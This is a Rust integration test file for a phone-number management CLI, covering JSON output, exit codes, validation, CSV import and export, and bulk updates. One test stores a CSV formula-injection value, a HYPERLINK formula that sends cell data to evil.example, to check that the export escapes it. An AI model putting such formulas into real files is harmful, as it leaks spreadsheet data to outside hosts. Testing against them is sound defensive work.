//! The CLI against a local workspace, as scripts use it: output, JSON, exit codes and the
//! one-line errors, and that refused commands write nothing.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::Path;
use std::process::Output;

fn cli(ws: &Path, args: &[&str]) -> Output {
    let mut command = common::command(&["--workspace"]);
    command
        .arg(ws)
        .args(args)
        .env_remove("SWITCHBOARD_WORKSPACE")
        .output()
        .expect("run switchboard-cli")
}

fn ok(ws: &Path, args: &[&str]) -> String {
    let out = cli(ws, args);
    assert!(
        out.status.success(),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("utf-8")
}

/// Runs a command that must fail with `code`, returning its stderr.
fn fails(ws: &Path, args: &[&str], code: i32) -> String {
    let out = cli(ws, args);
    assert_eq!(
        out.status.code(),
        Some(code),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.stdout.is_empty(),
        "nothing on stdout: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    String::from_utf8(out.stderr).expect("utf-8")
}

fn json(ws: &Path, args: &[&str]) -> serde_json::Value {
    serde_json::from_str(&ok(ws, args)).expect("JSON output")
}

#[test]
fn add_list_show_update_remove() {
    let dir = tempfile::tempdir().unwrap();
    let ws = &dir.path().join("ws.db");
    ok(ws, &["orgs", "add", "--slug", "acme", "--name", "Acme Inc"]);
    ok(ws, &["agents", "add", "--org", "acme", "--name", "Ava"]);
    // --json accepted before and after the subcommand.
    let n = json(
        ws,
        &[
            "--json",
            "numbers",
            "add",
            "--org",
            "acme",
            "--provider",
            "twilio",
            "--number",
            "+1 (415) 555-1234",
            "--friendly-name",
            "Support",
            "--metadata",
            r#"{"capabilities":{"voice":true},"x":[1]}"#,
            "--agent",
            "Ava",
        ],
    );
    assert_eq!(n["phone_number"], "+14155551234");
    assert_eq!(n["metadata"]["x"][0], 1);
    for key in [
        "id",
        "organization_id",
        "provider",
        "friendly_name",
        "credentials",
        "agent_id",
        "webhook_configured",
        "webhook_url",
        "status",
        "created_at",
        "updated_at",
        "last_verified_at",
    ] {
        assert!(n.get(key).is_some(), "missing {key}");
    }
    let national = json(
        ws,
        &[
            "numbers",
            "add",
            "--org",
            "acme",
            "--provider",
            "vonage",
            "--number",
            "(212) 555-0100",
            "--region",
            "US",
            "--json",
        ],
    );
    assert_eq!(national["phone_number"], "+12125550100");

    let listed = json(
        ws,
        &[
            "numbers", "list", "--org", "acme", "--search", "555", "--json",
        ],
    );
    assert_eq!(listed["total"], 2);
    assert_eq!(listed["items"][0]["phone_number"], "+12125550100");
    let listed = json(
        ws,
        &[
            "numbers",
            "list",
            "--org",
            "acme",
            "--provider",
            "twilio",
            "--json",
            "--sort",
            "-number",
        ],
    );
    assert_eq!(listed["total"], 1);
    let text = ok(ws, &["numbers", "list", "--org", "acme"]);
    assert!(
        text.contains("+1 415-555-1234") && text.contains("2 of 2 shown"),
        "{text}"
    );

    let id = n["id"].as_str().unwrap();
    let shown = ok(ws, &["numbers", "show", id]);
    assert!(
        shown.contains("agent: Ava") && shown.contains("country: US"),
        "{shown}"
    );
    let updated = json(
        ws,
        &[
            "numbers",
            "update",
            "+14155551234",
            "--status",
            "inactive",
            "--agent",
            "none",
            "--metadata",
            r#"{"x":null}"#,
            "--json",
        ],
    );
    assert_eq!(updated["status"], "inactive");
    assert!(updated["agent_id"].is_null());
    assert!(updated["metadata"].get("x").is_none());
    ok(ws, &["numbers", "remove", id]);
    let err = fails(ws, &["numbers", "show", id], 2);
    assert!(err.starts_with("error: phone number"), "{err}");
}

#[test]
fn agents_are_renamed_removed_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let ws = &dir.path().join("ws.db");
    ok(ws, &["orgs", "add", "--slug", "acme", "--name", "Acme"]);
    for name in ["Ava", "Bo"] {
        ok(ws, &["agents", "add", "--org", "acme", "--name", name]);
    }
    for (number, agent) in [
        ("+14155550100", "Ava"),
        ("+14155550101", "Ava"),
        ("+14155550102", "none"),
    ] {
        let add: Vec<&str> = ("numbers add --org acme --provider twilio --number".split(' '))
            .chain([number])
            .collect();
        ok(ws, &add);
        ok(
            ws,
            &[
                "numbers", "update", "--org", "acme", number, "--agent", agent,
            ],
        );
    }
    let err = fails(
        ws,
        &["agents", "rename", "--org", "acme", "Bo", "--to", " "],
        2,
    );
    assert!(err.contains("agent name"), "{err}");
    let out = ok(
        ws,
        &["agents", "rename", "--org", "acme", "Bo", "--to", "Bea"],
    );
    assert!(
        out.contains("renamed agent \"Bo\" to \"Bea\" in acme"),
        "{out}"
    );
    let out = ok(ws, &["agents", "orphans", "--org", "acme"]);
    assert!(out.starts_with("1 number with no agent:\n"), "{out}");
    assert!(
        out.contains("+1 415-555-0102") && !out.contains("+1 415-555-0100"),
        "{out}"
    );
    assert!(out.contains("1 agent with no number:"), "{out}");
    let removal = json(ws, &["agents", "remove", "--json", "--org", "acme", "Ava"]);
    assert_eq!(removal["unassigned"], 2);
    assert_eq!(removal["agent"]["name"], "Ava");
    let listed = json(
        ws,
        &[
            "numbers", "list", "--json", "--org", "acme", "--agent", "none",
        ],
    );
    assert_eq!(listed["total"], 3, "every number stays, unassigned");
    let err = fails(ws, &["agents", "remove", "--org", "acme", "Ava"], 2);
    assert!(err.contains("agent \"Ava\" not found"), "{err}");
    let report = json(ws, &["agents", "orphans", "--json", "--org", "acme"]);
    assert_eq!(report["unassigned"], 3);
    assert_eq!(report["agents"][0]["agent"]["name"], "Bea");
}

#[test]
fn bad_input_is_one_line_exit_2_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let ws = &dir.path().join("ws.db");
    ok(ws, &["orgs", "add", "--slug", "acme", "--name", "Acme"]);
    let add = |number: &str| {
        vec![
            "numbers",
            "add",
            "--org",
            "acme",
            "--provider",
            "twilio",
            "--number",
            number,
        ]
        .into_iter()
        .map(str::to_owned)
        .collect::<Vec<_>>()
    };
    let run = |args: Vec<String>, code: i32| {
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        fails(ws, &refs, code)
    };
    assert_eq!(
        run(add("+1234"), 2),
        "error: \"+1234\" is not a valid phone number (too short)\n"
    );
    assert!(run(add("(415) 555-1234"), 2).contains("no country code"));
    let mut bad_provider = add("+14155551234");
    bad_provider[5] = "twillio".into();
    assert!(run(bad_provider, 2).contains("invalid provider: \"twillio\""));
    let mut secret = add("+14155551234");
    secret.extend(["--metadata".into(), "[]".into()]);
    assert!(run(secret, 2).contains("invalid metadata"));
    let mut long = add("+14155551234");
    long.extend(["--friendly-name".into(), "x".repeat(101)]);
    assert!(run(long, 2).contains("at most 100"));
    ok(
        ws,
        &[
            "numbers",
            "add",
            "--org",
            "acme",
            "--provider",
            "twilio",
            "--number",
            "+14155551234",
        ],
    );
    assert_eq!(
        run(add("+1 415 555 1234"), 2),
        "error: +14155551234 already exists in acme\n"
    );
    assert!(
        fails(ws, &["numbers", "list", "--org", "nope"], 2)
            .contains("organization \"nope\" not found")
    );
    assert!(fails(ws, &["numbers", "list", "--org", "acme", "--limit", "0"], 2).contains("limit"));
    assert!(fails(ws, &["numbers", "update", "+14155551234"], 2).contains("nothing to change"));
    // Usage errors come from the argument parser, also with exit code 2.
    assert!(fails(ws, &["numbers", "add", "--org", "acme"], 2).contains("--provider"));
    let listed = json(ws, &["numbers", "list", "--org", "acme", "--json"]);
    assert_eq!(listed["total"], 1, "only the one good add was written");
}

#[test]
fn export_import_and_seed() {
    let dir = tempfile::tempdir().unwrap();
    let ws = &dir.path().join("ws.db");
    let seeded = json(
        ws,
        &["dev", "seed", "--org", "demo", "--numbers", "500", "--json"],
    );
    assert_eq!(seeded["numbers_inserted"], 500);
    let csv_path = dir.path().join("out.csv");
    ok(
        ws,
        &[
            "numbers",
            "export",
            "--org",
            "demo",
            "--format",
            "csv",
            "--output",
            csv_path.to_str().unwrap(),
        ],
    );
    let exported = std::fs::read_to_string(&csv_path).unwrap();
    assert_eq!(exported.lines().count(), 501);
    assert!(exported.starts_with(
        "id,organization_id,provider,phone_number,friendly_name,credentials,metadata"
    ));
    let as_json = json(
        ws,
        &["numbers", "export", "--org", "demo", "--format", "json"],
    );
    assert_eq!(as_json.as_array().unwrap().len(), 500);

    ok(ws, &["orgs", "add", "--slug", "copy", "--name", "Copy"]);
    let bad = dir.path().join("bad.csv");
    std::fs::write(
        &bad,
        "phone_number,provider\n+14155550100,twilio\nnot a number,twilio\n+14155550101,nexmo\n",
    )
    .unwrap();
    let err = fails(
        ws,
        &["numbers", "import", "--org", "copy", bad.to_str().unwrap()],
        2,
    );
    assert!(
        err.starts_with("error: 2 bad row(s); nothing was imported"),
        "{err}"
    );
    assert!(
        err.contains("line 3: \"not a number\" is not a valid phone number"),
        "{err}"
    );
    assert!(err.contains("line 4: invalid provider"), "{err}");
    assert_eq!(
        json(ws, &["numbers", "list", "--org", "copy", "--json"])["total"],
        0
    );
    // The seeded agents do not exist in "copy": rows naming them are refused, by line.
    let err = fails(
        ws,
        &[
            "numbers",
            "import",
            "--org",
            "copy",
            csv_path.to_str().unwrap(),
        ],
        2,
    );
    assert!(err.contains("is not in this organization"), "{err}");
    let missing = fails(
        ws,
        &["numbers", "import", "--org", "copy", "/nonexistent.csv"],
        1,
    );
    assert!(missing.contains("/nonexistent.csv"), "{missing}");

    // Deterministic: the same seed into another file gives the same numbers.
    let other = &dir.path().join("other.db");
    ok(other, &["dev", "seed", "--org", "demo", "--numbers", "500"]);
    let a = json(
        ws,
        &[
            "numbers", "list", "--org", "demo", "--limit", "20", "--json",
        ],
    );
    let b = json(
        other,
        &[
            "numbers", "list", "--org", "demo", "--limit", "20", "--json",
        ],
    );
    assert_eq!(a["items"], b["items"]);
}

#[test]
fn a_csv_export_is_safe_in_a_spreadsheet_and_reads_back() {
    let dir = tempfile::tempdir().unwrap();
    let ws = &dir.path().join("ws.db");
    ok(ws, &["orgs", "add", "--slug", "acme", "--name", "Acme"]);
    // The export keeps the numbers' ids: it goes into another workspace.
    let other = &dir.path().join("other.db");
    ok(other, &["orgs", "add", "--slug", "copy", "--name", "Copy"]);
    let hyperlink = r#"=HYPERLINK("https://evil.example/?d="&A1,"Support")"#;
    ok(
        ws,
        &[
            "numbers",
            "add",
            "--org",
            "acme",
            "--provider",
            "twilio",
            "--number",
            "+14155550100",
            "--friendly-name",
            hyperlink,
        ],
    );
    let csv_path = dir.path().join("acme.csv");
    let path = csv_path.to_str().unwrap();
    ok(
        ws,
        &[
            "numbers", "export", "--org", "acme", "--format", "csv", "-o", path,
        ],
    );
    let exported = std::fs::read_to_string(&csv_path).unwrap();
    assert!(
        exported.contains(r#""'=HYPERLINK(""https://evil.example/?d=""&A1,""Support"")""#),
        "{exported}"
    );
    // As a spreadsheet saves it when the column is not text: the + is gone.
    std::fs::write(&csv_path, exported.replace(",+1415", ",1415")).unwrap();
    ok(other, &["numbers", "import", "--org", "copy", path]);
    let copied = json(other, &["numbers", "list", "--org", "copy", "--json"]);
    assert_eq!(copied["items"][0]["phone_number"], "+14155550100");
    assert_eq!(copied["items"][0]["friendly_name"], hyperlink);

    // A file over the size limit is refused before it is read (a sparse file: no disk used).
    let big = dir.path().join("big.csv");
    std::fs::File::create(&big)
        .unwrap()
        .set_len(612_000_000)
        .unwrap();
    let err = fails(
        other,
        &["numbers", "import", "--org", "copy", big.to_str().unwrap()],
        2,
    );
    assert!(
        err.contains("big.csv is 612 MB; the limit is 500 MB — split the file"),
        "{err}"
    );
}

#[test]
fn a_newer_workspace_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let ws = &dir.path().join("ws.db");
    ok(ws, &["orgs", "list"]);
    let conn = std::process::Command::new("sqlite3")
        .arg(ws)
        .arg("INSERT INTO schema_migrations VALUES (99990101000000, 'future', 0);")
        .status();
    if conn.map(|s| s.success()).unwrap_or(false) {
        let err = fails(ws, &["orgs", "list"], 1);
        assert!(err.contains("newer than this build"), "{err}");
    } else {
        panic!("the sqlite3 command-line tool is needed for this test (apt-get install sqlite3)");
    }
}

#[test]
fn numbers_list_alarm_lists_only_the_numbers_moving_away() {
    let dir = tempfile::tempdir().unwrap();
    let ws = &dir.path().join("ws.db");
    ok(ws, &["orgs", "add", "--slug", "acme", "--name", "Acme"]);
    let csv = dir.path().join("numbers.csv");
    let alarm = r#""{""readiness"": {""state"": ""blocked"", ""items"": [], ""alarm"": true}}""#;
    let calm = r#""{""readiness"": {""state"": ""ready"", ""items"": [], ""alarm"": false}}""#;
    std::fs::write(
        &csv,
        format!(
            "phone_number,provider,metadata\n+14155550100,telnyx,{alarm}\n\
             +14155550101,telnyx,{calm}\n+14155550102,telnyx,\n"
        ),
    )
    .unwrap();
    ok(
        ws,
        &["numbers", "import", "--org", "acme", csv.to_str().unwrap()],
    );
    let all = json(ws, &["numbers", "list", "--org", "acme", "--json"]);
    assert_eq!(all["total"], 3);
    let moving = json(
        ws,
        &["numbers", "list", "--org", "acme", "--alarm", "--json"],
    );
    assert_eq!(moving["total"], 1, "{moving}");
    assert_eq!(moving["items"][0]["phone_number"], "+14155550100");
}

#[test]
fn numbers_update_where_changes_every_number_the_filter_flags_select() {
    let dir = tempfile::tempdir().unwrap();
    let ws = &dir.path().join("ws.db");
    ok(ws, &["orgs", "add", "--slug", "acme", "--name", "Acme"]);
    ok(ws, &["orgs", "add", "--slug", "globex", "--name", "Globex"]);
    ok(ws, &["agents", "add", "--org", "acme", "--name", "Ava"]);
    for (org, number, name, status) in [
        ("acme", "+14155550201", "Desk 1", "active"),
        ("acme", "+14155550202", "Desk 2", "active"),
        ("acme", "+14155550203", "Desk 3", "inactive"),
        ("acme", "+14155550204", "Lobby", "active"),
        ("globex", "+14155550205", "Desk 5", "active"),
    ] {
        let add = format!("numbers add --org {org} --provider twilio --number {number}");
        let mut args: Vec<&str> = add.split(' ').collect();
        args.extend(["--friendly-name", name, "--status", status]);
        ok(ws, &args);
    }
    let change = [
        "numbers",
        "update",
        "--org",
        "acme",
        "--status",
        "error",
        "--agent",
        "Ava",
        "--metadata",
        r#"{"capabilities":{"sms":true}}"#,
        "--where",
        "--search",
        "desk",
        "--status",
        "active",
    ];
    // A dry run counts and changes nothing (--dry-run before or after --where).
    let dry = [&change[..], &["--dry-run"]].concat();
    assert_eq!(ok(ws, &dry), "would update 2 numbers of acme\n");
    let dry = [&["--json"], &change[..4], &["--dry-run"], &change[4..]].concat();
    assert_eq!(
        json(ws, &dry),
        serde_json::json!({"matching": 2, "dryRun": true})
    );
    // Bad input: one line, exit 2, nothing written.
    let bad = [&change[..], &["--bogus"]].concat();
    assert!(fails(ws, &bad, 2).contains("unexpected argument '--bogus'"));
    let bad_status = [&change[..5], &["bogus"], &change[6..]].concat();
    assert!(fails(ws, &bad_status, 2).contains("\"bogus\" is not one of"));
    let no_org = [&change[..2], &change[4..]].concat();
    assert!(fails(ws, &no_org, 2).contains("give --org"));
    let listed = |org: &str| {
        let rows = json(ws, &["--json", "numbers", "list", "--org", org]);
        rows["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|n| {
                format!(
                    "{} {} sms={}",
                    n["friendly_name"].as_str().unwrap(),
                    n["status"].as_str().unwrap(),
                    n["metadata"]["capabilities"]["sms"] == true
                )
            })
            .collect::<Vec<_>>()
    };
    let before = listed("acme");
    assert_eq!(
        before,
        [
            "Desk 1 active sms=false",
            "Desk 2 active sms=false",
            "Desk 3 inactive sms=false",
            "Lobby active sms=false"
        ]
    );

    let report = json(ws, &[&["--json"], &change[..]].concat());
    assert_eq!(
        report,
        serde_json::json!({"updated": 2, "failed": [], "cancelled": false})
    );
    assert_eq!(
        listed("acme"),
        [
            "Desk 1 error sms=true",
            "Desk 2 error sms=true",
            "Desk 3 inactive sms=false",
            "Lobby active sms=false"
        ]
    );
    assert_eq!(
        listed("globex"),
        ["Desk 5 active sms=false"],
        "another organization"
    );
    let agent = json(
        ws,
        &[
            "--json", "numbers", "list", "--org", "acme", "--agent", "Ava",
        ],
    );
    assert_eq!(agent["items"].as_array().unwrap().len(), 2);
    // No filter flag: every number of the organization; the report in words.
    let every = [
        "numbers",
        "update",
        "--org",
        "acme",
        "--friendly-name",
        "Same",
        "--where",
    ];
    assert_eq!(ok(ws, &every), "updated 4 numbers\n");
}

/// `numbers export` with the filter flags of `numbers list` and --sort writes only the numbers
/// they select, in that order (the app's export of what the table shows, from the CLI);
/// without them, every number as before.
#[test]
fn numbers_export_takes_the_filter_flags_and_the_order() {
    let dir = tempfile::tempdir().unwrap();
    let ws = &dir.path().join("ws.db");
    let run = |line: String| ok(ws, &line.split(' ').collect::<Vec<_>>());
    run("orgs add --slug acme --name Acme".into());
    for (number, status) in [
        ("+14155550101", "active"),
        ("+14155550102", "inactive"),
        ("+14155550103", "active"),
        ("+14155550104", "active"),
    ] {
        run(format!(
            "numbers add --org acme --provider twilio --number {number} --status {status}"
        ));
    }
    let export = |flags: &str| -> Vec<String> {
        let out = run(format!("numbers export --org acme --format json {flags}")
            .trim_end()
            .into());
        let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
        (rows.as_array().unwrap().iter())
            .map(|r| r["phone_number"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(
        export("--status active --sort -number"),
        ["+14155550104", "+14155550103", "+14155550101"]
    );
    assert_eq!(export("--search 0102"), ["+14155550102"]);
    assert_eq!(export("").len(), 4, "every number without filter flags");
    let out = dir.path().join("active.csv");
    run(format!(
        "numbers export --org acme --status active -o {}",
        out.display()
    ));
    let csv = std::fs::read_to_string(&out).unwrap();
    assert_eq!(
        csv.lines().count(),
        4,
        "a header and the three active numbers: {csv}"
    );
    assert!(!csv.contains("+14155550102"), "{csv}");
}
